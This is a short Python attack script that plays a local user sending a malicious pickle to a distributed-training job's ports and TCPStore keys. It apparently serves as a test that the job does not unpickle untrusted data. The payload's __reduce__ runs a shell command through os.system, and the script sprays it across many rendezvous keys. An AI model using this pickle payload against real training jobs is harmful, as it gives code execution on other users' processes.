"""Another user of the host, who may reach every port of a job: `attack.py port ...`. Prints how far it got at each."""
from __future__ import annotations

import encodings.idna  # noqa: F401  which that user may not be able to read
import os
import pickle
import signal
import socket
import sys
from datetime import timedelta

from torch.distributed import TCPStore

if os.geteuid() == 0:                                # else the job's own user, who has no other rights
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)


class Payload:
    def __reduce__(self):
        return os.system, (f"id > {os.environ['MARK']}",)


evil = pickle.dumps(Payload())
KEYS = ["globaltensor wait 0", "globaltensor wait 1", "globaltensor deadlock", "globaltensor/host 0", "host 0",
        "arrivals", "globaltensor/round 1/host 0", "globaltensor process 0", "globaltensor heart 1",
        "torch.rendezvous.none", "torch.rendezvous.globaltensor"]
for port in sys.argv[1:]:
    with socket.socket() as link:
        link.connect(("127.0.0.1", int(port)))
        link.sendall(len(evil).to_bytes(8, "little") + evil)
    if (child := os.fork()) == 0:
        signal.alarm(5)                              # gloo's ports take what they get, and never answer
        store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False)
        for prefix in ("", "default_pg/0/", "globaltensor/", "/", "start 0/", "start 0/default_pg/0/"):
            for key in KEYS:
                store.set(prefix + key, evil)
        os._exit(0)
    print("wrote" if os.waitpid(child, 0)[1] == 0 else "sent", port)
